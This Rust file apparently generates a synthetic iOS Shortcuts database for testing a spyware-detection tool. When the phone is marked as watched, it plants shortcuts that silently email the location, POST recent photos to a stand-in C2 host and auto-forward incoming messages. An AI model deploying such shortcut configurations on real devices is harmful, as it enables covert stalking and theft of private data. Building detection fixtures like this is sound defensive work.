//! `Shortcuts.sqlite`: shortcuts as people make them, and those of a watcher
//! (<https://github.com/pfgithub/scpl/tree/master/docs/actions>).

use plist::Value;
use rusqlite::params;

use crate::{
    BuildError,
    backup::database::Database,
    build::{Build, Places, Spot},
    keyed_archive::KeyedArchive,
    planted,
    property_list::{binary, dictionary},
    times,
    truth::Kind,
};

const SHORTCUT: &str = "Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZACTIONCOUNT INTEGER, ZCREATIONDATE TIMESTAMP, ZMODIFICATIONDATE TIMESTAMP, ZACTIONSDESCRIPTION VARCHAR, ZNAME VARCHAR, ZWORKFLOWID VARCHAR";
/// Columns since some version.
const SINCE: [(u32, &str); 2] = [
    (14, "ZTOMBSTONED INTEGER, ZLASTSAVEDONDEVICENAME VARCHAR"),
    (
        15,
        "ZHIDDENFROMLIBRARYANDSYNC INTEGER, ZLASTRUNEVENTDATE TIMESTAMP, ZASSOCIATEDAPPBUNDLEIDENTIFIER VARCHAR",
    ),
];
const OTHER: &str = "CREATE TABLE ZSHORTCUTACTIONS (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZSHORTCUT INTEGER, ZDATA BLOB); CREATE TABLE ZTRIGGER (Z_PK INTEGER PRIMARY KEY, Z_ENT INTEGER, Z_OPT INTEGER, ZENABLED INTEGER, ZSHOULDPROMPT INTEGER, ZSHORTCUT INTEGER, ZTRIGGERID VARCHAR, ZDATA BLOB); CREATE INDEX ZSHORTCUTACTIONS_ZSHORTCUT_INDEX ON ZSHORTCUTACTIONS (ZSHORTCUT); CREATE INDEX ZTRIGGER_ZSHORTCUT_INDEX ON ZTRIGGER (ZSHORTCUT);";

/// Writes `Shortcuts.sqlite`, which the system keeps since iOS 13.
pub(super) fn write(build: &mut Build<'_>) -> Result<(), BuildError> {
    if !build.phone.version.since(13) {
        return Ok(());
    }
    let path = "Library/Shortcuts/Shortcuts.sqlite";
    let spot = Spot::new("ios.shortcuts", "HomeDomain", path);
    let schema = super::table("ZSHORTCUT", SHORTCUT, &SINCE, build.phone.version);
    let database = build.create(&spot, &schema)?;
    database.run(OTHER)?;
    for (name, actions) in ordinary() {
        let Places { place, .. } = shortcut(build, &database, name, actions)?;
        build.near_miss(&spot, place, name);
    }
    if build.phone.watched {
        plant(build, &spot, &database)?;
    }
    build.keep(&spot, database, &["ZSHORTCUT", "ZSHORTCUTACTIONS"])
}

/// An action of Apple's own.
fn action<'k>(name: &str, parameters: impl IntoIterator<Item = (&'k str, Value)>) -> Value {
    dictionary([
        (
            "WFWorkflowActionIdentifier",
            format!("is.workflow.actions.{name}").into(),
        ),
        ("WFWorkflowActionParameters", dictionary(parameters)),
    ])
}

/// The value of a variable: what another action gave, or what the person is asked.
fn variable(kind: &str) -> Value {
    let value = dictionary([
        ("Type", kind.into()),
        ("OutputName", "Current Location".into()),
        ("OutputUUID", "0F0D8A6C-6C1C-4F0A-9E21-2F6C0D1B7E55".into()),
    ]);
    dictionary([
        ("Value", value),
        ("WFSerializationType", "WFTextTokenAttachment".into()),
    ])
}

/// A text in which a variable stands.
fn text_with_variable(text: &str) -> Value {
    let attachment = dictionary([
        ("Type", "ActionOutput".into()),
        ("OutputName", "Current Location".into()),
    ]);
    let value = dictionary([
        ("string", text.into()),
        ("attachmentsByRange", dictionary([("{0, 1}", attachment)])),
    ]);
    dictionary([
        ("Value", value),
        ("WFSerializationType", "WFTextTokenString".into()),
    ])
}

/// Recipients set in advance: numbers or e-mail addresses.
fn recipient(address: &str) -> Value {
    let (entry_type, key) = if address.contains('@') {
        (2, "link.contentkit.emailaddress")
    } else {
        (1, "link.contentkit.phonenumber")
    };
    let entry = dictionary([
        ("EntryType", entry_type.into()),
        ("SerializedEntry", dictionary([(key, address.into())])),
    ]);
    let value = dictionary([("WFContactFieldValues", Value::Array(vec![entry]))]);
    dictionary([
        ("Value", value),
        ("WFSerializationType", "WFContactFieldValue".into()),
    ])
}

/// A shortcut: its name and its actions.
type Shortcut = (&'static str, Vec<Value>);

/// What people make, and what the phone brings.
fn ordinary() -> Vec<Shortcut> {
    let minutes = dictionary([("Magnitude", "12".into()), ("Unit", "min".into())]);
    let mut all = vec![
        (
            "Pâtes",
            vec![action("timer.start", [("WFDuration", minutes)])],
        ),
        (
            "Mémo",
            vec![
                action("recordaudio", [("WFRecordingStart", "On Tap".into())]),
                action("documentpicker.save", []),
            ],
        ),
        (
            "Bonne nuit 🌙",
            vec![action("lowpowermode.set", [("OnValue", true.into())])],
        ),
    ];
    all.extend(ordinary_senders());
    all
}

/// Ordinary shortcuts that send something, or take the place, and are no alarm.
fn ordinary_senders() -> [Shortcut; 4] {
    let place = || action("getcurrentlocation", []);
    let on_my_way = message(
        variable("Ask"),
        text_with_variable("J’arrive \u{fffc}"),
        None,
    );
    let late = message(
        recipient("+33 6 39 98 55 01"),
        "En retard, désolée".into(),
        Some(false),
    );
    let where_i_am = message(
        recipient("+33 6 39 98 55 02"),
        text_with_variable("\u{fffc}"),
        Some(true),
    );
    let weather = "https://api.vigie-testkit-weather.net/now?at=\u{fffc}";
    let ask = action("downloadurl", [("WFURL", text_with_variable(weather))]);
    [
        ("J’arrive", vec![place(), on_my_way]),
        ("En retard", vec![late]),
        (
            "Météo > https://api.vigie-testkit-weather.net/now?at=\u{fffc}",
            vec![place(), ask],
        ),
        ("Où je suis > +33 6 39 98 55 02", vec![place(), where_i_am]),
    ]
}

/// An action that writes a message; `shown` when the shortcut says whether it shows it first.
fn message(to: Value, content: Value, shown: Option<bool>) -> Value {
    let mut fields = vec![
        ("WFSendMessageActionRecipients", to),
        ("WFSendMessageContent", content),
    ];
    fields.extend(shown.map(|shown| ("ShowWhenRun", shown.into())));
    action("sendmessage", fields)
}

/// Writes a shortcut; gives its row, or that of its actions.
fn shortcut(
    build: &Build<'_>,
    database: &Database,
    name: &str,
    actions: Vec<Value>,
) -> Result<Places, BuildError> {
    let connection = database.connection();
    // A near miss is named as a finding about it would observe it.
    let shown = name.split(" > ").next().unwrap_or_default();
    let made = times::cocoa(build.now() - 90 * times::DAY);
    connection.execute(
        "INSERT INTO ZSHORTCUT (Z_ENT, Z_OPT, ZACTIONCOUNT, ZCREATIONDATE, ZMODIFICATIONDATE, ZNAME, ZWORKFLOWID) VALUES (7, 1, ?1, ?2, ?2 + 60.5, ?3, ?4)",
        params![
            i64::try_from(actions.len()).unwrap_or_default(),
            made,
            shown,
            build.random(name).uuid()
        ],
    )?;
    let row = connection.last_insert_rowid();
    let data = binary(&Value::Array(actions))?;
    connection.execute(
        "INSERT INTO ZSHORTCUTACTIONS (Z_ENT, Z_OPT, ZSHORTCUT, ZDATA) VALUES (8, 1, ?1, ?2)",
        params![row, data],
    )?;
    let actions = connection.last_insert_rowid();
    Ok((
        format!("ZSHORTCUT:{row}"),
        vec![format!("ZSHORTCUTACTIONS:{actions}")],
    )
        .into())
}

/// The location by mail, pictures to a server, and messages passed on as they come.
fn plant(build: &mut Build<'_>, spot: &Spot, database: &Database) -> Result<(), BuildError> {
    let id = "shortcut-sends";
    let mail = "agent@vigie-testkit-mail.com";
    let mailed = vec![
        action("getcurrentlocation", []),
        action(
            "sendemail",
            [
                ("WFSendEmailActionToRecipients", recipient(mail)),
                ("WFSendEmailActionSubject", text_with_variable("\u{fffc}")),
                ("WFSendEmailActionShowComposeSheet", false.into()),
            ],
        ),
    ];
    let places = shortcut(build, database, "Batterie", mailed)?;
    build.known(spot, places.clone(), mail, &planted::EMAIL);
    build.check(spot, places, mail, id, Kind::Suspicious);

    let server = "https://drop.vigie-testkit-c2.com/in";
    let posted = vec![
        action("url", [("WFURLActionURL", server.into())]),
        action("getlastphoto", [("WFGetLatestPhotoCount", 20.into())]),
        action(
            "downloadurl",
            [
                ("WFHTTPMethod", "POST".into()),
                ("WFHTTPBodyType", "File".into()),
                ("WFRequestVariable", variable("ActionOutput")),
            ],
        ),
    ];
    let places = shortcut(build, database, "Sauvegarde", posted)?;
    build.known(spot, places, server, &planted::C2);

    let number = "+33 6 39 98 55 09";
    let passed_on = vec![action(
        "sendmessage",
        [
            ("WFSendMessageActionRecipients", recipient(number)),
            ("WFSendMessageContent", variable("ExtensionInput")),
            ("ShowWhenRun", false.into()),
        ],
    )];
    let places = shortcut(build, database, "Sync", passed_on)?;
    let mut archive = KeyedArchive::new();
    let root = archive.object(&["WFMessageTrigger", "WFTrigger", "NSObject"], []);
    database.connection().execute(
        "INSERT INTO ZTRIGGER (ZENABLED, ZSHOULDPROMPT, ZSHORTCUT, ZDATA) VALUES (1, 0, (SELECT max(Z_PK) FROM ZSHORTCUT), ?1)",
        [archive.finish(root)?],
    )?;
    build.check(spot, places, number, id, Kind::Suspicious);
    Ok(())
}
